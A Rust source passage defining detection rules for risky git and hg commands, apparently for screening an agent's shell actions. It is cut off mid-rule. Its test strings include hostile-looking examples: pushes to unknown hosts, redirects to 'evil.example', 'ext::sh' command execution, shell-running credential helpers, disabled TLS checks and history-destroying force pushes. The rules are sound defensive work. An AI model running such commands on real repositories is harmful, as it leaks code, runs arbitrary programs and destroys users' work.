//! Rules on version control: history, uncommitted work and what runs by itself. Owns nothing about how git's own
//! configuration is followed; that is said where programs are understood.

mod push;
mod worktree;

use super::{Hit, Rule, Shelf, When, effects};
use crate::{
    address::host_of,
    effect::{Argument, Kinds, WriteMode},
    finding::{Category, Confidence},
    programs::Options,
    risk::Severity,
};

pub(super) static SHELF: Shelf = Shelf {
    programs: &["bfg", "gh", "git", "git-filter-repo", "hg", "jj", "svn", "svnadmin"],
    rules: RULES,
};

static RULES: &[Rule] = &[
    Rule {
        id: "git.push.force",
        message: "a forced push replaces the remote branch, and commits that others pushed there are lost",
        remedy: "fetch and rebase first, then `git push`; where history must change, let a person run it with `--force-with-lease`",
        when: When::Command(&[
            "git push --force|-f",
            "git push … +*",
            "gh api *git/refs* -f=force=true|-F=force=true|--field=force=true|--raw-field=force=true",
        ]),
        fires: &[
            "git push --force origin main",
            "git push -f",
            "git push -uf origin main",
            "git -C sub push origin +main",
            "git push origin HEAD --forc",
            "git send-pack --force ../origin.git HEAD:main",
            "git http-push --force https://git.example.com/x.git main",
            "git -c remote.origin.push=+HEAD:main push origin",
            "git config remote.origin.push '+refs/heads/*:refs/heads/*' && git push",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push GIT_CONFIG_VALUE_0=+main git push",
        ],
        quiet: &[
            "git push origin main",
            "git push -u origin HEAD",
            "git push --follow-tags",
            "git push --dry-run --force origin main",
            "git push origin feature-f",
            "git send-pack ../origin.git HEAD:refs/heads/x",
            "git -c remote.origin.push=HEAD:refs/heads/x push origin",
            "git -c remote.other.push=+HEAD push origin",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.push.address",
        category: Category::Exfiltration,
        reversible: false,
        message: "the project and its history go to an address that the repository does not know as a remote",
        remedy: "push to a remote of the repository, which a person has set up",
        when: When::Effect(Kinds::RUN, push::leaves),
        fires: &[
            "git push https://git.example.net/x.git --all",
            "git push deploy@203.0.113.9:x.git HEAD",
            "git remote add backup https://git.example.net/x.git && git push backup main",
            "git push https://github.com/o/r.git main",
            "git push --repo=https://git.example.net/x.git",
            "git -c remote.origin.pushurl=https://git.example.net/x push",
            "git -c url.https://git.example.net/.insteadOf=https://github.com/ push origin",
            "git config remote.origin.pushurl https://git.example.net/x && git push",
            "git send-pack https://git.example.net/x main",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=https://git.example.net/x git push",
            "git push --dry-run --no-dry-run https://git.example.net/x main",
            "git -c branch.main.pushRemote=https://git.example.net/x push",
            "git -c remote.pushDefault=https://git.example.net/x push",
        ],
        quiet: &[
            "git push origin main",
            "git push origin HEAD:main",
            "git push -n https://git.example.net/x main",
            "git -c user.name=x push",
            "git push",
            "git push ../mirror.git main",
            "git remote add backup https://git.example.net/x.git && git fetch backup",
            "git push http://localhost:3000/o/r.git main",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.push.lease",
        severity: Severity::Medium,
        message: "the push rewrites the remote branch if nobody else has moved it since the last fetch",
        remedy: "make sure that nobody else works on the branch",
        when: When::Command(&["git push --force-with-lease|--force-if-includes !--force !-f"]),
        fires: &["git push --force-with-lease origin feature"],
        quiet: &["git push origin feature", "git push --force origin main"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.push.mirror",
        severity: Severity::Critical,
        message: "a mirror push makes the remote equal to this clone: every branch and tag that is not here is deleted there",
        remedy: "push the branches that you mean: `git push origin main`",
        when: When::Command(&["git push --mirror", "git push --prune"]),
        fires: &[
            "git push --mirror",
            "git push --prune origin 'refs/heads/*'",
            "git -c remote.origin.mirror=true push",
            "git -c remote.origin.mirror push",
            "git send-pack --mirror ../origin.git",
        ],
        quiet: &[
            "git push --all origin",
            "git clone --mirror https://example.com/x.git",
            "git -c remote.origin.mirror=false push",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.push.delete",
        message: "a branch or tag is deleted on the remote",
        remedy: "look at what would go: `git log origin/main..origin/BRANCH`, and let a person delete it",
        when: When::Command(&["git push --delete|-d", "git push … :*"]),
        fires: &[
            "git push origin --delete release/1.0",
            "git push origin :main",
            "git push -d origin old",
        ],
        quiet: &[
            "git push origin main:main",
            "git push origin HEAD:refs/heads/x",
            "git push --tags",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.push.no-verify",
        category: Category::Evasion,
        severity: Severity::Medium,
        reversible: true,
        message: "the push skips the checks that the repository runs before every push",
        remedy: "let the checks run: `git push`",
        when: When::Command(&["git push --no-verify"]),
        fires: &["git push --no-verify origin main"],
        quiet: &["git push origin main"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.commit.no-verify",
        category: Category::Evasion,
        severity: Severity::Medium,
        reversible: true,
        message: "the commit skips the checks that the repository runs before every commit",
        remedy: "fix what the checks say, then `git commit`",
        when: When::Command(&["git commit|merge|rebase|am --no-verify", "git commit -n"]),
        fires: &["git commit --no-verify -m x", "git commit -nm x", "git merge --no-verify topic"],
        quiet: &["git commit -m 'no --no-verify here'", "git commit -m -n"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.reset.hard",
        message: "every uncommitted change is thrown away, and commits that no branch holds become unreachable",
        remedy: "keep the work first: `git stash`, or move only the branch: `git reset --soft HEAD~1`",
        when: When::Command(&["git reset --hard|--merge", "git read-tree --reset -u !-n"]),
        fires: &[
            "git reset --hard",
            "git reset --hard HEAD~5",
            "git -C x reset -q --hard",
            "git reset --merge",
            "git read-tree -u --reset HEAD~1",
        ],
        quiet: &[
            "git reset",
            "git reset --soft HEAD~1",
            "git reset HEAD file",
            "git bisect reset",
            "git read-tree HEAD",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.clean.force",
        message: "files that were never committed are deleted",
        remedy: "list them first: `git clean -nd`",
        when: When::Command(&[
            "git clean -f|--force !-n !--dry-run",
            "git clean -c=clean.requireforce=false|-c=clean.requireforce=0|-c=clean.requireforce=no|-c=clean.requireforce=off !-n !--dry-run",
        ]),
        fires: &["git clean -fd", "git clean -xdf", "git clean --force -d"],
        quiet: &["git clean -nd", "git clean -fdn", "git clean -i"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.checkout.everything",
        message: "every uncommitted change in the work tree is thrown away",
        remedy: "keep the work first: `git stash`, or name the one file",
        when: When::Command(&[
            "git checkout|restore … .|./|\\*|:/|:/\\*|.. !--staged !-S !-b !-B",
            "git restore … .|./|:/ --worktree|-W",
            "git checkout|switch -f|--force|--discard-changes",
            "git checkout-index -f|--force -a|--all",
        ]),
        fires: &[
            "git checkout .",
            "git checkout -- .",
            "git checkout HEAD -- .",
            "git restore .",
            "git restore -SW .",
            "git restore -S -W -s HEAD~4 .",
            "git restore -SWsHEAD~4 .",
            "git checkout -f main",
            "git switch --discard-changes main",
            "git switch --discard main",
            "git checkout-index -fa",
            "git checkout-index -fa --prefix=./",
        ],
        quiet: &[
            "git checkout main",
            "git checkout -b fix",
            "git restore --staged .",
            "git checkout -",
            "git checkout-index -a --prefix=out/",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.checkout.file",
        confidence: Confidence::Medium,
        message: "the uncommitted changes in these files are thrown away",
        remedy: "look at them first: `git diff`, or keep them: `git stash push FILE`",
        when: When::Command(&[
            "git checkout * -- !. !./ !:/ !-b !-B",
            "git checkout * * !. !./ !:/ !-b !-B !--orphan !-t !--track !-",
            "git restore * !--staged !-S !. !./ !:/",
            "git restore * --worktree|-W !. !./ !:/",
            "git checkout|restore --pathspec-from-file !--staged !-S",
        ]),
        fires: &[
            "git checkout -- src/main.rs",
            "git restore src/main.rs",
            "git checkout HEAD -- a b",
            "git checkout --pathspec-from-file=list HEAD",
        ],
        quiet: &["git checkout main", "git restore --staged src/main.rs", "git checkout -b x"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.stash.drop",
        message: "work that was set aside is thrown away",
        remedy: "look at it first: `git stash show -p`; to use it: `git stash pop`",
        when: When::Command(&["git stash drop|clear"]),
        fires: &["git stash drop", "git stash drop stash@{1}", "git stash clear"],
        quiet: &["git stash", "git stash pop", "git stash list", "git stash push -m drop"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.branch.delete-force",
        message: "a branch is deleted although its commits are merged nowhere",
        remedy: "`git branch -d NAME` refuses where something would be lost",
        when: When::Command(&["git branch -D", "git branch --delete|-d --force|-f"]),
        fires: &["git branch -D feature", "git branch --delete --force x", "git branch -df x"],
        quiet: &["git branch -d merged", "git branch -a", "git branch feature"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.branch.move-force",
        severity: Severity::Medium,
        message: "a branch is made to point elsewhere, whatever it held",
        remedy: "make a new branch with `git branch NAME COMMIT`",
        when: When::Command(&[
            "git branch -f|--force|-M|-C !-d !--delete",
            "git checkout -B",
            "git switch -C|--force-create",
            "git update-ref refs/heads/* * !-d !--stdin",
        ]),
        fires: &[
            "git branch -f main HEAD~3",
            "git checkout -B main origin/main",
            "git update-ref refs/heads/main HEAD~5",
        ],
        quiet: &["git branch new", "git checkout -b new", "git branch -m old new"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.history.rewrite",
        message: "the whole history is rewritten; every clone and every commit id becomes stale",
        remedy: "work on a fresh clone, and let a person run it",
        when: When::Command(&[
            "git filter-branch|filter-repo !--analyze",
            "git-filter-repo !--analyze",
            "bfg",
            "git rebase --root",
            "git replace --graft|-f",
            "git lfs migrate import|export !--no-rewrite",
        ]),
        fires: &[
            "git filter-branch --force --index-filter 'git rm --cached x' HEAD",
            "git filter-repo --path secrets --invert-paths",
            "bfg --delete-files id_rsa",
            "git rebase --root -i",
            "git lfs migrate import --include='*.psd'",
        ],
        quiet: &[
            "git rebase main",
            "git rebase -i HEAD~5",
            "git filter-repo --analyze",
            "git lfs pull",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.reflog.expire",
        message: "the log that lost commits are found again with is cut",
        remedy: "leave it: entries expire by themselves after 90 days; `git reflog` shows them",
        when: When::Command(&[
            "git reflog expire|delete",
            "git config … gc.reflogExpire|gc.reflogExpireUnreachable|gc.*.reflogExpire|gc.*.reflogExpireUnreachable|gc.pruneExpire now|all|0|*.minute*|*.hour* !--get !--unset",
        ]),
        fires: &[
            "git reflog expire --expire=now --all",
            "git reflog delete HEAD@{1}",
            "git config gc.reflogExpire now",
        ],
        quiet: &[
            "git reflog",
            "git reflog show main",
            "git reflog expire --dry-run --all",
            "git config gc.reflogExpire never",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.gc.prune",
        message: "objects that nothing points to are deleted at once, and with them every chance to recover lost commits",
        remedy: "`git gc` keeps them for two weeks",
        when: When::Command(&[
            "git gc --prune=now|--prune=all|--prune=0|--prune=*.seconds*|--prune=*seconds*|--prune=*minute*|--prune=today",
            "git gc --aggressive --prune",
            "git prune !-n",
            "git repack -d -a --unpack-unreachable|--cruft-expiration",
            "git gc -c=gc.pruneexpire=now|-c=gc.pruneexpire=all|-c=gc.pruneexpire=0|-c=gc.pruneexpire=*second*|-c=gc.pruneexpire=*minute*",
            "git gc -c=gc.reflogexpire=now|-c=gc.reflogexpire=all|-c=gc.reflogexpireunreachable=now|-c=gc.reflogexpireunreachable=all",
        ]),
        fires: &[
            "git gc --prune=now",
            "git gc --prune=now --aggressive",
            "git prune --expire now",
            "git -c gc.pruneExpire=now gc",
        ],
        quiet: &["git gc", "git gc --auto", "git prune -n", "git remote prune origin"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.ref.delete",
        message: "a reference is deleted without any check whether its commits are held elsewhere",
        remedy: "`git branch -d NAME` checks",
        when: When::Command(&[
            "git update-ref -d|--delete|--stdin",
            "git symbolic-ref -d|--delete",
        ]),
        fires: &["git update-ref -d refs/heads/main", "git update-ref --stdin"],
        quiet: &["git update-ref refs/heads/x HEAD", "git symbolic-ref HEAD"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.ref.written",
        message: "the file that says where branches are is replaced by hand, and commits that only it names are lost to sight",
        remedy: "let git do it: `git update-ref`, `git branch -f`",
        when: When::Effect(Kinds::WRITE, |effect, _| {
            let (target, mode, content) = effects::written(effect)?;
            let (_, inside) = target.path.as_deref()?.rsplit_once("/.git/")?;
            let is_data = matches!(inside, "index" | "packed-refs")
                || ["objects/", "refs/"].iter().any(|start| inside.starts_with(start))
                    && !inside.starts_with("objects/info/")
                || inside == "HEAD" && !content.known_prefix().starts_with("ref: refs/");
            (is_data && mode != WriteMode::Append).then(|| effects::at(Severity::High))
        }),
        fires: &[
            ": > .git/packed-refs",
            "truncate -s0 .git/packed-refs",
            "sed -i /main/d .git/packed-refs",
            "echo x > .git/refs/heads/main",
            "echo x > .git/HEAD",
            "truncate -s 0 .git/index",
            "cp /dev/null .git/objects/aa/bb",
        ],
        quiet: &[
            "cat .git/packed-refs",
            "echo 'ref: refs/heads/main' > .git/HEAD",
            "echo x >> .git/info/exclude",
            "git pack-refs --all",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.tag.delete",
        severity: Severity::Medium,
        message: "a tag is deleted or moved; releases are built from tags",
        remedy: "look at what it marks: `git show TAG`",
        when: When::Command(&["git tag -d|--delete", "git tag -f|--force"]),
        fires: &["git tag -d v1.0", "git tag -f v1.0"],
        quiet: &["git tag v1.0", "git tag -l", "git tag --contains HEAD"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.hooks.project",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        message: "git runs hooks that the project brings along",
        remedy: "look at them first: `ls -l .githooks`",
        when: When::Command(&[
            "git config … core.hooksPath|core.hookspath .config/hooks|.config/githooks|.git-hooks|.githooks|.hooks|.husky|.husky/_|git-hooks|githooks|scripts/git-hooks|scripts/githooks|scripts/hooks|tools/git-hooks|tools/githooks|tools/hooks !--get !--get-all !--unset !--global !--system",
        ]),
        fires: &[
            "git config core.hooksPath .githooks",
            "git -c core.hooksPath=tools/hooks commit -m x",
        ],
        quiet: &["git config --get core.hooksPath", "git commit -m x"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.config.runs",
        category: Category::Persistence,
        reversible: true,
        message: "git is told to run a program on later commands, whoever runs them",
        remedy: "set it for one command by hand, where a person sees it",
        when: When::Command(&[
            "git config --global|--system … core.hooksPath|core.hookspath * !--get !--get-all !--unset",
            "git config … core.hooksPath|core.hookspath * !--get !--get-all !--unset !.config/hooks !.config/githooks !.git-hooks !.githooks !.hooks !.husky !.husky/_ !git-hooks !githooks !scripts/git-hooks !scripts/githooks !scripts/hooks !tools/git-hooks !tools/githooks !tools/hooks",
            "git config … core.sshCommand|core.sshcommand|core.fsmonitor|core.gitProxy|core.askPass|core.alternateRefsCommand * !--get !--get-all !--unset !true !false",
            "git config … core.editor|core.pager|sequence.editor|credential.helper|credential.*.helper * !--get !--get-all !--unset !vi !vim* !nvim* !nano* !emacs* !code* !cat !less* !delta* !true !cache* !store !osxkeychain !manager* !libsecret !!gh*",
            "git config … gpg.program|gpg.*.program|uploadpack.packObjectsHook|diff.external|interactive.diffFilter * !--get !--get-all !--unset",
            "git config … filter.*.clean|filter.*.smudge|filter.*.process|diff.*.command|merge.*.driver|mergetool.*.cmd|difftool.*.cmd|pager.*|trailer.*.command|trailer.*.cmd|remote.*.uploadpack|remote.*.receivepack|remote.*.vcs * !--get !--get-all !--unset !nbstripout",
            "git config … diff.*.textconv * !--get !--get-all !--unset !nbstripout !catdoc !catdoc\\_* !docx2txt !docx2txt\\_* !exiftool !exiftool\\_* !hexdump !hexdump\\_* !jq !jq\\_* !odt2txt !odt2txt\\_* !pandoc !pandoc\\_* !pdftotext !pdftotext\\_* !strings !strings\\_* !xxd !xxd\\_*",
            "git config … alias.* *!* !--get !--get-all !--unset",
            "git config … include.path|includeIf.*.path|init.templateDir|init.templatedir * !--get !--unset",
        ]),
        fires: &[
            "git config --global core.hooksPath /tmp/hooks",
            "git config --global core.hooksPath .githooks",
            "git config core.hooksPath ../hooks",
            "git config core.sshCommand 'sh -c x'",
            "git config credential.helper '!f() { cat; }; f'",
            "git config --global alias.st '!sh x.sh'",
            "git config filter.x.clean ./x",
        ],
        quiet: &[
            "git config --get core.hooksPath",
            "git config core.sshCommand",
            "git config --global user.name Alice",
            "git config --global alias.st status",
            "git config --unset core.hooksPath",
            "git config -l",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.config.change",
        severity: Severity::Low,
        message: "a setting of git is changed",
        remedy: "`git config --unset NAME` takes it back",
        when: When::Command(&[
            "git config * * !--get !--get-all !--get-regexp !--get-urlmatch !--get-color !--get-colorbool !--list !-l !get !list",
            "git config --unset|--unset-all|--remove-section|--rename-section",
            "git config set|unset|remove-section|rename-section",
        ]),
        fires: &[
            "git config user.name Alice",
            "git config --global --unset user.name",
            "git config set user.name Alice",
        ],
        quiet: &["git config user.name", "git config --get user.name", "git config get user.name"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.config.elsewhere",
        severity: Severity::High,
        message: "git would act on another directory than the one its repository lies in",
        remedy: "`git worktree add PATH BRANCH` checks out a branch elsewhere",
        when: When::Command(&["git config … core.worktree /*|~*|..*|$* !--get !--unset"]),
        fires: &["git config core.worktree /home/dev", "git config core.worktree ../.."],
        quiet: &["git config --get core.worktree", "git config core.worktree ."],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.config.trust",
        category: Category::Evasion,
        severity: Severity::High,
        reversible: true,
        message: "a check that git makes on servers, transports or owners of repositories is turned off",
        remedy: "fix the certificate, protocol or owner instead",
        when: When::Command(&[
            "git config … http.sslVerify|http.sslverify|http.*.sslVerify|transfer.fsckObjects|receive.denyNonFastForwards|receive.denyDeletes false|0",
            "git config … safe.directory \\*",
            "git config … clean.requireForce|clean.requireforce false|0|no|off",
            "git config … protocol.ext.allow|protocol.allow|protocol.file.allow always",
            "git config … http.proxy|https.proxy|http.*.proxy|core.gitProxy|core.gitproxy *:* !--unset !--get !--unset-all",
        ]),
        fires: &[
            "git config --global http.sslVerify false",
            "git config protocol.ext.allow always",
            "git config --global http.proxy http://203.0.113.5:3128",
            "git config clean.requireForce false",
        ],
        quiet: &[
            "git config http.sslVerify true",
            "git config --global --unset http.proxy",
            "git config --global safe.directory /workspace/project",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.trust.off",
        category: Category::Evasion,
        severity: Severity::Medium,
        reversible: true,
        message: "git would take code without checking whose server it comes from",
        remedy: "give git the certificate: `git -c http.sslCAInfo=ca.pem fetch`",
        when: When::Command(&[
            "git -c=http.sslVerify=false|-c=http.sslVerify=0|-c=http.sslVerify=no|-c=http.sslVerify=off",
            "git -c=http.sslverify=false|-c=http.sslverify=0|-c=http.sslverify=no|-c=http.sslverify=off",
        ]),
        fires: &["git -c http.sslVerify=false clone https://github.com/a/b"],
        quiet: &["git -c http.sslVerify=true fetch", "git -c core.pager=cat log"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.init.around",
        category: Category::SelfProtection,
        severity: Severity::High,
        message: "a repository is made around the directory of the work, so that what lies beside it counts as part of it",
        remedy: "make it where the work is: `git init`",
        when: When::Noted,
        fires: &["cd app && git init ..", "git init /workspace"],
        quiet: &["git init", "git init sub", "git init -q ."],
        ..Rule::LOSS
    },
    Rule {
        id: "git.trace.unredacted",
        category: Category::Credentials,
        severity: Severity::High,
        reversible: true,
        message: "what git signs in with would stand in its trace",
        remedy: "leave `GIT_TRACE_REDACT` out",
        when: When::Noted,
        fires: &["GIT_TRACE_REDACT=0 GIT_TRACE_CURL=1 git fetch"],
        quiet: &["GIT_TRACE_CURL=1 git fetch", "GIT_TRACE_REDACT=1 git fetch"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.fetch.branches",
        severity: Severity::High,
        message: "every branch of this clone is replaced by the remote's, and commits that only they had are in no branch any more",
        remedy: "fetch into the remote's own names: `git fetch --prune origin`",
        when: When::Command(&[
            "git fetch|pull … +refs/heads/\\*:refs/heads/\\* !--dry-run",
            "git fetch|pull -f|--force … refs/heads/\\*:refs/heads/\\* !--dry-run",
        ]),
        fires: &[
            "git fetch origin '+refs/heads/*:refs/heads/*'",
            "git fetch -pu origin '+refs/heads/*:refs/heads/*'",
            "git fetch --force origin 'refs/heads/*:refs/heads/*'",
        ],
        quiet: &[
            "git fetch origin '+refs/heads/*:refs/remotes/origin/*'",
            "git fetch --prune origin",
            "git fetch origin '+refs/pull/*/head:refs/remotes/origin/pr/*'",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.daemon.open",
        category: Category::Exfiltration,
        severity: Severity::High,
        message: "everybody who reaches this machine may push into its repositories, or fetch whatever lies below",
        remedy: "serve one repository to read: `git daemon --base-path=. --export-all --listen=127.0.0.1`",
        when: When::Command(&[
            "git daemon --enable=receive-pack|--base-path=/|--base-path=/home|--base-path=/home/*",
        ]),
        fires: &["git daemon --export-all --base-path=/ --enable=receive-pack"],
        quiet: &["git daemon --base-path=. --export-all --listen=127.0.0.1"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.config.redirect",
        category: Category::Evasion,
        severity: Severity::High,
        reversible: true,
        message: "git would go to another server than the one that an address names",
        remedy: "write the address of the server that is meant",
        when: When::Effect(Kinds::RUN, |effect, _| {
            let run = effects::run(effect).filter(|run| run.program == "git")?;
            // `git -c url.…insteadOf=…` for one command, fetched and run as much as for all.
            let redirects = |setting: Argument| {
                let setting = setting.text.as_known()?.to_ascii_lowercase();
                let (key, from) = setting.split_once('=')?;
                let key = key.strip_prefix("url.")?;
                let to = key.strip_suffix(".insteadof")?;
                (host_of(to) != host_of(from)).then_some(())
            };
            let settings = Options::new(&run.arguments, &["-c", "--config"]);
            if settings.values_of(&["-c", "--config"]).any(|it| redirects(it).is_some()) {
                return Some(Hit::default());
            }
            let mut words = effects::words(run).skip_while(|word| *word != "config");
            words.next()?;
            let mut words = words.filter(|word| !word.starts_with('-'));
            let (to, from) = loop {
                let lower = words.next()?.to_ascii_lowercase();
                let key = lower.strip_prefix("url.");
                let to = key.and_then(|key| {
                    key.strip_suffix(".insteadof").or_else(|| key.strip_suffix(".pushinsteadof"))
                });
                if let Some(to) = to {
                    break (host_of(to), words.next()?);
                }
            };
            (to != host_of(from)).then(Hit::default)
        }),
        fires: &[
            "git config --global url.https://evil.example/.insteadOf https://github.com/",
            "git -c url.https://evil.example/.insteadOf=https://github.com/ pull",
        ],
        quiet: &[
            "git config --global url.git@github.com:.insteadOf https://github.com/",
            "git -c url.git@github.com:.insteadOf=https://github.com/ pull",
            "git config --global url.ssh://git@gitlab.example.com/.insteadOf https://gitlab.example.com/",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.remote.redirect",
        category: Category::Exfiltration,
        severity: Severity::Medium,
        reversible: true,
        message: "later pushes and fetches go to another address",
        remedy: "compare with `git remote -v` before and after",
        when: When::Command(&["git remote set-url", "git submodule set-url"]),
        fires: &["git remote set-url origin https://example.com/x.git"],
        quiet: &[
            "git remote -v",
            "git remote get-url origin",
            "git remote add up https://example.com/x.git",
        ],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.refs.rewritten",
        message: "branches or tags are made to mean something else than the commits that they had",
        remedy: "keep what they were: `git branch keep BRANCH`, and make a branch of your own",
        when: When::Command(&[
            "git symbolic-ref refs/* refs/*",
            "git symbolic-ref --delete|-d",
            "git fast-import --force",
        ]),
        fires: &[
            "git symbolic-ref refs/heads/main refs/heads/other",
            "git fast-export --all -- docs | git fast-import --force --quiet",
        ],
        quiet: &[
            "git symbolic-ref HEAD",
            "git symbolic-ref --short HEAD",
            "git symbolic-ref refs/remotes/origin/HEAD",
            "git symbolic-ref HEAD refs/heads/main",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.index.planted",
        category: Category::Evasion,
        severity: Severity::High,
        confidence: Confidence::Medium,
        reversible: true,
        message: "files come into the repository, and from there into the work tree, that never stood in it to be looked at",
        remedy: "write the file, and add it: `git add FILE`",
        when: When::Command(&[
            "git update-index --cacheinfo|--index-info",
            "git read-tree --prefix=*",
            "git mktree|commit-tree|fast-import",
            "git hash-object -w --stdin|--literally",
            "git unpack-objects",
        ]),
        fires: &[
            "git update-index --add --cacheinfo 100644,$(git hash-object -w a),b",
            "git update-index --index-info < list",
            "git read-tree --prefix=b/ -u HEAD:a",
            "git commit-tree $(git write-tree) -m x",
            "git fast-import < stream",
        ],
        quiet: &[
            "git update-index --refresh",
            "git update-index --chmod=+x run.sh",
            "git update-index --skip-worktree a.cfg",
            "git write-tree",
            "git hash-object a.txt",
            "git fast-export --all",
            "git read-tree HEAD",
        ],
    },
    Rule {
        id: "git.remote.push.added",
        category: Category::Exfiltration,
        severity: Severity::High,
        reversible: true,
        message: "every later push also, or instead, goes to another address than what is fetched comes from",
        remedy: "push there by its own name: `git remote add NAME ADDRESS`, `git push NAME`",
        when: When::Command(&[
            "git remote set-url --push|--add !--delete",
            "git config remote.*.pushurl *",
            "git config set remote.*.pushurl *",
            // What is pushed without being named: everything, also what is gone here, or what overwrites what is there.
            "git config … remote.*.mirror true|yes|on|1 !--get !--unset",
            "git config … remote.*.push +*|:* !--get !--unset",
            "git remote add --mirror=push",
            // The name of a remote is one that a person has added; an address, also `host:path`, is anybody's.
            "git config … remote.pushdefault|branch.*.pushremote|branch.*.remote *:*",
        ]),
        fires: &[
            "git remote set-url --add --push origin https://example.com/x.git",
            "git remote set-url --push origin https://example.com/x.git",
            "git config remote.origin.pushurl https://example.com/x.git",
            "git config Remote.origin.PushURL https://example.com/x.git",
            "git config set remote.origin.pushurl https://example.com/x.git",
            "git config remote.pushDefault https://example.com/x.git",
            "git config branch.main.pushRemote git@example.com:x.git",
            "git config branch.main.remote https://example.com/x.git",
            "git config remote.origin.mirror true",
            "git config remote.origin.push '+refs/heads/*:refs/heads/*'",
        ],
        quiet: &[
            "git config remote.pushDefault fork",
            "git config branch.main.remote origin",
            "git config remote.origin.push 'refs/heads/*:refs/for/*'",
            "git config --unset remote.pushDefault",
            "git remote set-url origin https://example.com/x.git",
            "git remote get-url --push origin",
            "git config --get remote.origin.pushurl",
        ],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.remote.remove",
        message: "a remote with everything that is known of its branches is forgotten",
        remedy: "note its address first: `git remote -v`",
        when: When::Command(&["git remote remove|rm"]),
        fires: &["git remote rm origin"],
        quiet: &["git remote show origin", "git remote prune origin"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.worktree.remove-force",
        message: "a work tree is deleted with everything that is not committed in it",
        remedy: "`git worktree remove PATH` refuses where something would be lost",
        when: When::Effect(Kinds::RUN, worktree::removed_by_force),
        fires: &[
            "git worktree remove --force ../x",
            "git worktree remove ../x -f",
            "git worktree add ../x main; git worktree remove --force ../x",
            "git worktree add /tmp/x main; git worktree remove --force /tmp/y",
        ],
        quiet: &[
            "git worktree remove ../x",
            "git worktree list",
            "git worktree add --detach /tmp/x HEAD~1 && make -C /tmp/x; git worktree remove --force /tmp/x",
        ],
        ..Rule::LOSS
    },
    Rule {
        id: "git.submodule.deinit",
        message: "the work trees of submodules are deleted with their local changes",
        remedy: "look at each first: `git submodule status`",
        when: When::Command(&["git submodule deinit --force|-f|--all"]),
        fires: &["git submodule deinit --all -f", "git submodule deinit -f vendor/x"],
        quiet: &["git submodule update --init", "git submodule status"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.remove.force",
        message: "files are deleted from the work tree although their changes are not committed",
        remedy: "`git rm --cached FILE` keeps the file, and without `-f` git refuses to lose changes",
        when: When::Command(&["git rm -f|--force !--cached", "git rm -r … .|\\*|/|:/ !--cached"]),
        fires: &["git rm -rf src", "git rm -r ."],
        quiet: &["git rm README.md", "git rm -r --cached .", "git rm --cached x", "git rm -r old"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.rebase.exec",
        category: Category::Execution,
        severity: Severity::Medium,
        reversible: true,
        message: "a command is run after each commit of the rebase",
        remedy: "rebase first, then run the command once",
        when: When::Command(&[
            "git rebase --exec|-x",
            "git bisect run",
            "git submodule foreach",
            "git difftool --extcmd|-x",
        ]),
        fires: &[
            "git rebase -x 'make test' main",
            "git bisect run ./test.sh",
            "git submodule foreach 'git status'",
        ],
        quiet: &["git rebase main", "git bisect good", "git submodule status"],
        ..Rule::CHANGE
    },
    Rule {
        id: "git.transport.ext",
        category: Category::Execution,
        severity: Severity::Critical,
        message: "git is given a transport or a remote program that is any command",
        remedy: "use an `https://` address",
        when: When::Command(&["git * … ext::*"]),
        fires: &[
            "git clone 'ext::sh -c whoami' x",
            "git fetch --upload-pack='touch x' origin",
            "git clone -qu 'touch x' . y",
            "git ls-remote --up 'touch x' .",
            "git -c protocol.ext.allow=always fetch origin",
        ],
        quiet: &["git clone https://example.com/x.git", "git fetch origin"],
        ..Rule::LOSS
    },
    Rule {
        id: "git.objects.delete",
        message: "parts of the repository itself are deleted or made unreachable",
        remedy: "make a copy of the repository first",
        when: When::Command(&[
            "git notes prune",
            "git maintenance run --task=gc|--task=prune-remote-refs",
            "git sparse-checkout reapply --force",
            "git lfs prune --force|-f",
        ]),
        severity: Severity::Medium,
        fires: &["git notes prune", "git lfs prune --force"],
        quiet: &["git notes list", "git lfs ls-files"],
        ..Rule::LOSS
    },
    Rule {
        id: "hg.history.lost",
        message: "changesets or uncommitted changes are removed",
        remedy: "look first: `hg status`, `hg outgoing`",
        when: When::Command(&[
            "hg strip|rollback|histedit|prune",
            "hg update|up|checkout|co --clean|-C",
            "hg revert --all|-a",
            "hg purge|clean",
            "hg push --force|-f",
        ]),
        fires: &[
            "hg strip 42",
            "hg update --clean tip",
            "hg purge --all",
            "hg revert --all",
            "hg push -f",
        ],
        quiet: &["hg status", "hg update tip", "hg push", "hg log"],
        ..Rule::LOSS
    },
    Rule {
        id: "jj.history.lost",
